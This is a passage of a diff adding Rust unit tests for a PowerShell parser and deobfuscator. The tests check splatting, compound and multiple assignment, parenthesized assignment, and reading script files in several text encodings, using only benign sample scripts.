+$b = @{ items = 3; force = $false }; f @b "#;
+        let script_res = p.parse_input(input).unwrap();
+        assert_eq!(script_res.output(), ["True 1,2", "False 3"].join(NEWLINE));
+
+        // the array is a single argument, not spread over positional parameters
+        let input = r#" function g($items, $rest) { "$($items.Count) $($null -eq $rest)" }
+$c = @{ items = 1,2,3 }; g @c "#;
+        let script_res = p.parse_input(input).unwrap();
+        assert_eq!(script_res.result(), PsValue::String("3 True".into()));
+    }
+
+    #[test]
+    fn splatten_to_function() {
+        let mut p = PowerShellSession::new();
+
+        let input = r#" function f($a, $b) { "$a-$b" }
+$h = @{ a = 1; b = 2 }; f @h
+$arr = 3, 4; f @arr
+function g { f @args }; g 5 6 "#;
+        let script_res = p.parse_input(input).unwrap();
+        assert_eq!(script_res.output(), ["1-2", "3-4", "5-6"].join(NEWLINE));
+        assert_eq!(
+            script_res.deobfuscated(),
+            [
+                r#"function f($a, $b) { "$a-$b" }"#,
+                "$h = @{",
+                "\ta = 1",
+                "\tb = 2",
+                "}",
+                r#""1-2""#,
+                "$arr = @(3,4)",
+                r#""3-4""#,
+                "function g { f @args }",
+                r#""5-6""#,
+            ]
+            .join(NEWLINE)
+        );
+
+        // booleans are passed as values of parameters which are not switches
+        let input = r#" function f($a, $b, [switch]$c) { "$a-$b-$c" }
+$h = @{ a = $true; b = 2 }; f @h
+$h = @{ a = $false; b = 2; c = $true }; f @h "#;
+        let script_res = p.parse_input(input).unwrap();
+        assert_eq!(
+            script_res.output(),
+            ["True-2-False", "False-2-True"].join(NEWLINE)
+        );
+    }
+
     #[test]
     fn strange_assignment() {
         let mut p = PowerShellSession::new().with_variables(Variables::env());
@@ -978,6 +1879,75 @@ $a"#;
         );
     }
 
+    #[test]
+    fn compound_element_assignment() {
+        let mut p = PowerShellSession::new();
+
+        let input = r#" $a = @(1, 2); $a[0] += 10; $a "#;
+        let script_res = p.parse_input(input).unwrap();
+        assert_eq!(
+            script_res.result(),
+            PsValue::Array(vec![PsValue::Int(11), PsValue::Int(2)])
+        );
+
+        let input = r#" $h = @{ k = 3 }; $h['k'] *= 2; $h.k += 1; $h.k "#;
+        let script_res = p.parse_input(input).unwrap();
+        assert_eq!(script_res.result(), PsValue::Int(7));
+
+        let input = r#" $a = @(1, @(2, 3)); $a[1][0] -= 5; $a[1] "#;
+        let script_res = p.parse_input(input).unwrap();
+        assert_eq!(
+            script_res.result(),
+            PsValue::Array(vec![PsValue::Int(-3), PsValue::Int(3)])
+        );
+    }
+
+    #[test]
+    fn multiple_assignment() {
+        let mut p = PowerShellSession::new();
+
+        let input = r#" $a, $b = 1, 2; $a; $b "#;
+        let script_res = p.parse_input(input).unwrap();
+        assert_eq!(script_res.output(), ["1", "2"].join(NEWLINE));
+        assert_eq!(
+            script_res.deobfuscated(),
+            ["$a = 1", "$b = 2", "1", "2"].join(NEWLINE)
+        );
+
+        let input = r#" $a, $b = 1, 2; $a, $b = $b, $a; "$a $b" "#;
+        let script_res = p.parse_input(input).unwrap();
+        assert_eq!(script_res.result(), PsValue::String("2 1".into()));
+
+        // the last variable gets the rest of the values
+        let input = r#" $first, $rest = 1, 2, 3; $rest "#;
+        let script_res = p.parse_input(input).unwrap();
+        assert_eq!(
+            script_res.result(),
+            PsValue::Array(vec![PsValue::Int(2), PsValue::Int(3)])
+        );
+
+        let input = r#" $x, $y = 7; $y -eq $null "#;
+        let script_res = p.parse_input(input).unwrap();
+        assert_eq!(script_res.result(), PsValue::Bool(true));
+    }
+
+    #[test]
+    fn parenthesized_assignment() {
+        let mut p = PowerShellSession::new();
+
+        let input = r#" $y = ($x = 5); $y; $x "#;
+        let script_res = p.parse_input(input).unwrap();
+        assert_eq!(script_res.output(), ["5", "5"].join(NEWLINE));
+        assert_eq!(
+            script_res.deobfuscated(),
+            ["$x = 5", "$y = 5", "5", "5"].join(NEWLINE)
+        );
+
+        let input = r#" $a = @(1, 2); ($a[1] = 3) * 2 "#;
+        let script_res = p.parse_input(input).unwrap();
+        assert_eq!(script_res.result(), PsValue::Int(6));
+    }
+
     #[test]
     fn script_param_block() {
         let mut p = PowerShellSession::new().with_variables(Variables::env());
@@ -1004,4 +1974,36 @@ process
 "#;
         let _script_res = p.parse_input(input).unwrap();
     }
+
+    #[test]
+    fn parse_file() {
+        let dir = std::env::temp_dir().join(format!("ps_parser_{}", std::process::id()));
+        std::fs::create_dir_all(&dir).unwrap();
+        let script = "$a = 'zażółć'; $a + '!'";
+
+        let utf8 = dir.join("utf8.ps1");
+        std::fs::write(&utf8, [&[0xEF, 0xBB, 0xBF], script.as_bytes()].concat()).unwrap();
+        let utf16 = dir.join("utf16.ps1");
+        let utf16_bytes = script.encode_utf16().flat_map(u16::to_le_bytes);
+        std::fs::write(
+            &utf16,
+            [0xFF, 0xFE]
+                .into_iter()
+                .chain(utf16_bytes)
+                .collect::<Vec<_>>(),
+        )
+        .unwrap();
+        let no_bom = dir.join("no_bom.ps1");
+        std::fs::write(&no_bom, script).unwrap();
+
+        let mut p = PowerShellSession::new();
+        for path in [&utf8, &utf16, &no_bom] {
+            let script_res = p.parse_file(path).unwrap();
+            assert_eq!(script_res.result(), PsValue::String("zażółć!".into()));
+        }
+
+        let err = p.parse_file(&dir.join("missing.ps1")).unwrap_err();
+        assert!(matches!(err, ParserError::Io(_)));
+        std::fs::remove_dir_all(&dir).unwrap();
+    }
 }